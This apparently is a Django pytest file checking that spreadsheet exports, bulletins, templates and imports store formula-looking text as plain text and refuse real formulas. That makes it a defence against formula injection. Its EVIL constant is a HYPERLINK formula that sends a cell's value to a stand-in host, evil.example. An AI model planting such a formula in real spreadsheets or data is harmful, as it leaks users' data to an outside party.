"""No spreadsheet program evaluates text from the database: exports, bulletins and templates write it as text."""

import datetime
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from base.excel import Column, sheet_as_text, write_workbook
from base.models import Export, Notification
from grid.importers import EnterpriseImporter
from grid.models import Enterprise
from grid.tests.factories import EnterpriseFactory
from grid.tests.test_enterprise_import import row
from sanming_safety import bulletin
from tests.scoping import import_workbook

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'


def assert_shown_as_text(cell, text, same=lambda value: value):
    assert same(cell.value) == text
    assert cell.data_type == "s"
    assert cell.quotePrefix


def no_formulas(content: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return not any(b"<f>" in archive.read(name) for name in archive.namelist() if name.endswith(".xml"))


@pytest.mark.parametrize("text", [EVIL, "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"])
def test_the_writer_keeps_text_that_looks_like_a_formula_as_text(text):
    rows = [{"name": text, "amount": -5}]
    columns = [Column("name", "名称", value=lambda r: r["name"]), Column("amount", "金额", value=lambda r: r["amount"])]
    content = write_workbook(rows, columns, "测试").getvalue()
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    # A lone CR reads back as a line feed through the standard library's XML parser, as itself through lxml.
    assert_shown_as_text(sheet["A2"], text.replace("\r", "\n"), same=lambda value: value.replace("\r", "\n"))
    # A negative number is a number, untouched.
    assert (sheet["B2"].value, sheet["B2"].data_type, sheet["B2"].quotePrefix) == (-5, "n", False)
    assert no_formulas(content)


def test_the_enterprise_export_shows_a_formula_name_as_text(cast, login):
    EnterpriseFactory(region=cast.township_a, name=EVIL)
    response = login(cast.user_city).get(reverse("grid:enterprise_list"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert_shown_as_text(sheet["A2"], EVIL)
    assert no_formulas(response.content)


def test_a_background_export_shows_a_formula_name_as_text(
    cast, login, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.EXPORT_SYNC_ROWS = -1
    settings.MEDIA_ROOT = tmp_path
    EnterpriseFactory(region=cast.township_a, name=EVIL)
    client = login(cast.user_a)
    with django_capture_on_commit_callbacks(execute=True):
        client.get(reverse("grid:enterprise_list"), {"export": "xlsx"})
    assert Export.objects.get().status == Export.Status.DONE
    notice = Notification.objects.get(recipient=cast.user_a, kind="export")
    content = b"".join(client.get(notice.url).streaming_content)
    assert_shown_as_text(load_workbook(io.BytesIO(content)).worksheets[0]["A2"], EVIL)
    assert no_formulas(content)


def test_the_bulletin_shows_formula_text_as_text_and_numbers_as_numbers(cast, monkeypatch):
    sheet = bulletin.Sheet("重大隐患", ["单位", "数量"], rows=[[EVIL, -3]])
    monkeypatch.setattr(bulletin, "collect_sheets", lambda month, region: [sheet])
    content = bulletin.write_bulletin(datetime.date(2026, 10, 1), cast.city).getvalue()
    written = load_workbook(io.BytesIO(content))["重大隐患"]
    assert_shown_as_text(written["A3"], EVIL)
    assert (written["B3"].value, written["B3"].data_type) == (-3, "n")
    assert no_formulas(content)


def test_the_import_template_has_no_formulas(cast, login):
    response = login(cast.user_a).get(reverse("grid:enterprise_import"), {"template": 1})
    assert no_formulas(response.content)


def upload_with_address(client, region, address):
    """An enterprise row whose 地址 cell (E2) is ``address`` as the spreadsheet program stored it."""
    workbook = Workbook()
    sheet = workbook.active
    headers = [column.header for column in EnterpriseImporter.columns if column.field]
    sheet.append(headers)
    sheet.append([row(region).get(header) for header in headers])
    sheet["E2"] = address
    buffer = io.BytesIO()
    workbook.save(buffer)
    return import_workbook(
        client, reverse("grid:enterprise_import"), SimpleUploadedFile("企业.xlsx", buffer.getvalue())
    )


def test_an_import_stores_formula_looking_text_as_text(cast, login, monkeypatch):
    # openpyxl would store "=SUM(1,2)" as a formula; a text cell, as a spreadsheet program keeps it, is wanted.
    monkeypatch.setattr(Workbook, "save", _save_as_text(Workbook.save))
    response = upload_with_address(login(cast.user_a), cast.township_a, "=SUM(1,2)")
    assert response.status_code == 302
    assert Enterprise.objects.get().address == "=SUM(1,2)"


def _save_as_text(save):
    def as_text_then_save(workbook, filename):
        for sheet in workbook.worksheets:
            sheet_as_text(sheet)
        return save(workbook, filename)

    return as_text_then_save


def test_an_import_refuses_a_formula_cell_naming_row_and_column(cast, login):
    # A real formula, with no cached value: read with data_only it would be blank.
    response = upload_with_address(login(cast.user_a), cast.township_a, '=CONCAT("列西","街道")')
    errors = [str(error) for error in response.context["errors"]]
    assert errors == ["第2行 E列（地址）：单元格含有公式，请改为直接填写内容（可复制后“选择性粘贴 → 数值”）。"]
    assert not Enterprise.objects.exists()
